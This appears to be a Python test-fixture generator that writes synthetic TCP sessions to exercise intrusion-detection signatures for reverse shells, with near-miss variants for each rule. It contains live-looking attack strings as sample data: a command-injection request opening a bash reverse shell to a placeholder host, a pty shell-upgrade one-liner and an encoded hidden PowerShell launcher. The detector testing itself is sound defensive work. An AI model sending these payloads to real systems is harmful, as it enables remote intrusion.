from traffic import *

HOME, OUT = "10.0.0.5", "203.0.113.9"
port = 40000


def talk(*turns, to=4444, client=HOME, server=OUT):
    """A connection: texts of the client and of the server by turns, the client first."""
    global port
    port += 1
    c = Tcp(client, port, server, to)
    c.open()
    for i, turn in enumerate(turns):
        if turn:
            (c.reply if i % 2 else c.send)(turn)
    c.close()


BANNER = b"Microsoft Windows [Version 10.0.19045.3693]\r\n(c) Microsoft Corporation. All rights reserved.\r\n"
# 9010101, and what is near: a server quotes the banner; a client sends a version and no more.
talk(BANNER)
talk(b"GET /page\n", BANNER)
talk(b"Microsoft Windows [Version 10.0.19045.3693] is what I run\r\n")
# 9010102, and a path in the middle of a text.
talk(b"\r\nPS C:\\Users\\alice> ")
talk(b"PS C:\\Users\\alice> is what the prompt looks like")
# 9010103, and a line that only ends so.
talk(b"14 File(s)  9,216 bytes\r\n\r\nC:\\Windows\\system32>")
talk(b"saved to C:\\Windows\\system32>")
# 9010104, and the words in another order.
talk(b"bash: cannot set terminal process group (512): Inappropriate ioctl for device\nbash: no job control in this shell\n")
talk(b"no job control in this shell, said bash\n")
# 9010105: the order comes from outside; and one on a web port, as a page.
ORDER = b"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n"
talk(b"$ ", ORDER)
talk(b"GET /howto HTTP/1.1\r\n\r\n", ORDER, to=80)
# 9010106: at a server of the office; and the path without a shell.
talk(b"GET /cgi?x=;bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 HTTP/1.1\r\n\r\n", client=OUT, server=HOME, to=8080)
talk(b"GET /cgi?x=/dev/tcp/203.0.113.9/4444 HTTP/1.1\r\n\r\n", client=OUT, server=HOME, to=8080)
# 9010107, and an ordinary user.
talk(b"uid=0(root) gid=0(root) groups=0(root)\n")
talk(b"uid=1000(alice) gid=1000(alice) groups=1000(alice)\n")
# 9010108, and the name in a long text.
talk(b"nt authority\\system\r\n")
talk(b"." * 400 + b"nt authority\\system\r\n")
# 9010109, and an encoded command that begins otherwise.
talk(b"", b"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA\n")
talk(b"", b"powershell.exe -nop -w hidden -enc RwBlAHQALQBEAGEAdABlAA==\n")
write()
